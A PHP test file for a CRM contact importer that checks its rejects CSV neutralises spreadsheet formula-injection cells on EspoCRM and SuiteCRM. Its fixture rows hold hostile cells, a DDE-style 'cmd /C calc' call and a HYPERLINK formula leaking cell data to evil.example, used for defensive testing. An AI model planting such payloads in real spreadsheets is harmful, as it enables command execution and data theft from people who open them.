--TEST--
crmguard: the rejects file guards cells a spreadsheet would run (=, +, -, @, tab, CR, '); importing it back after a fix gives the original text, on both CRMs
--EXTENSIONS--
crmguard
mysqli
--FILE--
<?php
require __DIR__ . '/import.inc';
// Hostile and ordinary cells that all come back: a formula company, an Excel @-call name, a phone
// written +7, a comment that starts with -, a tab or a quote, a name that really starts with a quote.
$rows = [
    ['ФИО', 'Телефон', 'Компания', 'Комментарий'],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', '+7 912 700-00-01', '=HYPERLINK("http://evil.example/?"&A1,"Жми")', '+7 912 700-00-01 (мобильный)'],
    ['Иван Дубль', '+7 912 700-00-01', 'ООО Дубль', "-2+3"],
    ['\'Нил Олег', '+7 912 700-00-02', '\'=1+1', "\t=1+2"],
    ['Анна Нет', '+7 000', '-ООО Минус', '\'Пётр\''],
];
function csv_line(array $cells): string
{
    return implode(';', array_map(static fn($c) => '"' . str_replace('"', '""', $c) . '"', $cells)) . "\r\n";
}
foreach (['espocrm', 'suitecrm'] as $crm) {
    echo "== $crm\n";
    [$dsn, $db] = import_test_db($crm, "formula_$crm");
    $csv = import_tmp("hostile-$crm.csv");
    file_put_contents($csv, implode('', array_map('csv_line', $rows)));
    // line 2 is created; line 3 repeats its number; line 5 has no valid number; line 4 is made a
    // duplicate of something already imported by importing it alone first
    $first = import_tmp("first-$crm.csv");
    file_put_contents($first, csv_line($rows[0]) . csv_line($rows[3]));
    $r = (new CrmGuard\Importer($db, $crm, ['assign' => 'alexey.smirnov']))->run($first);
    echo "first: created $r[contacts_created]\n";
    $r = (new CrmGuard\Importer($db, $crm, ['assign' => 'alexey.smirnov']))->run($csv);
    echo "created $r[contacts_created], rejected $r[rejected_rows]\n";
    $text = file_get_contents($r['rejects_file']);
    echo preg_replace('/(Contacts?) [0-9a-f-]+ /', '$1 ID ', str_replace("\r\n", "\n", substr($text, 3)));
    // No cell of the rejects file starts with = + - @ tab or CR (the header's neither).
    $h = fopen($r['rejects_file'], 'r');
    fseek($h, 3);
    $bad = 0;
    while (($cells = fgetcsv($h, null, ';', '"', '')) !== false) {
        foreach ($cells as $c) {
            $bad += $c !== '' && str_contains("=+-@\t\r", $c[0]);
        }
    }
    fclose($h);
    echo "cells a spreadsheet would run: $bad\n";

    // The admin fixes the rejects file: the duplicate gets a number of its own, the bad number a
    // good one, the already-imported row is dropped.  Then imports it as it is.
    $fixed = str_replace(["'+7 912 700-00-01;ООО Дубль", "'+7 000;"], ["'+7 912 700-00-03;ООО Дубль", "'+7 912 700-00-04;"], $text);
    $fixed = preg_replace('/^.*Нил Олег.*\r\n/mu', '', $fixed);
    $fixedPath = import_tmp("fixed-$crm.csv");
    file_put_contents($fixedPath, $fixed);
    $r = (new CrmGuard\Importer($db, $crm, ['assign' => 'alexey.smirnov']))->run($fixedPath);
    echo "re-import: created $r[contacts_created], rejected $r[rejected_rows]\n";
    if ($crm === 'espocrm') {
        $sql = "SELECT c.first_name, c.last_name, a.name, c.description FROM contact c
            LEFT JOIN account a ON a.id = c.account_id WHERE c.created_at > '2026-01-31' ORDER BY c.last_name, c.first_name";
    } else {
        $sql = "SELECT c.first_name, c.last_name, a.name, c.description FROM contacts c
            LEFT JOIN accounts_contacts ac ON ac.contact_id = c.id AND ac.deleted = 0
            LEFT JOIN accounts a ON a.id = ac.account_id
            WHERE c.date_entered > '2026-01-31' ORDER BY c.last_name, c.first_name";
    }
    foreach (crmguard_test_sql($dsn, $sql) as $row) {
        echo json_encode(array_values($row), JSON_UNESCAPED_UNICODE), "\n";
    }
}

echo "== a leading quote in anyone else's file is the user's text\n";
[$dsn, $db] = import_test_db('espocrm', 'formula_plain');
$plain = import_tmp('plain.csv');
file_put_contents($plain, "ФИО;Телефон;Комментарий\n'Нил;+7 912 700-00-05;'=1+1\n");
(new CrmGuard\Importer($db, 'espocrm', ['assign' => 'alexey.smirnov']))->run($plain);
import_sql_lines($dsn, "SELECT last_name, description FROM contact WHERE created_at > '2026-01-31'");
?>
--EXPECT--
== espocrm
first: created 1
created 1, rejected 3
ФИО;Телефон;Компания;Комментарий;crmguard_line;crmguard_reason
Иван Дубль;'+7 912 700-00-01;ООО Дубль;'-2+3;3;duplicate in the file: +79127000001 is already on line 2
''Нил Олег;'+7 912 700-00-02;''=1+1;'	=1+2;4;"already in the CRM: +79127000002 belongs to Contact ID ""'Нил Олег"", responsible alexey.smirnov (Алексей Смирнов)"
Анна Нет;'+7 000;'-ООО Минус;''Пётр';5;"no valid phone number: ""7 000"" is too_short"
cells a spreadsheet would run: 0
re-import: created 2, rejected 0
["\/C","@SUM(1+1)*cmd|'","=HYPERLINK(\"http:\/\/evil.example\/?\"&A1,\"Жми\")","+7 912 700-00-01 (мобильный)"]
["Иван","Дубль","ООО Дубль","-2+3"]
["Анна","Нет","-ООО Минус","'Пётр'"]
["'Нил","Олег","'=1+1","=1+2"]
== suitecrm
first: created 1
created 1, rejected 3
ФИО;Телефон;Компания;Комментарий;crmguard_line;crmguard_reason
Иван Дубль;'+7 912 700-00-01;ООО Дубль;'-2+3;3;duplicate in the file: +79127000001 is already on line 2
''Нил Олег;'+7 912 700-00-02;''=1+1;'	=1+2;4;"already in the CRM: +79127000002 belongs to Contacts ID ""'Нил Олег"", responsible alexey.smirnov (Алексей Смирнов)"
Анна Нет;'+7 000;'-ООО Минус;''Пётр';5;"no valid phone number: ""7 000"" is too_short"
cells a spreadsheet would run: 0
re-import: created 2, rejected 0
["\/C","@SUM(1+1)*cmd|'","=HYPERLINK(\"http:\/\/evil.example\/?\"&A1,\"Жми\")","+7 912 700-00-01 (мобильный)"]
["Иван","Дубль","ООО Дубль","-2+3"]
["Анна","Нет","-ООО Минус","'Пётр'"]
["'Нил","Олег","'=1+1","=1+2"]
== a leading quote in anyone else's file is the user's text
'Нил | '=1+1
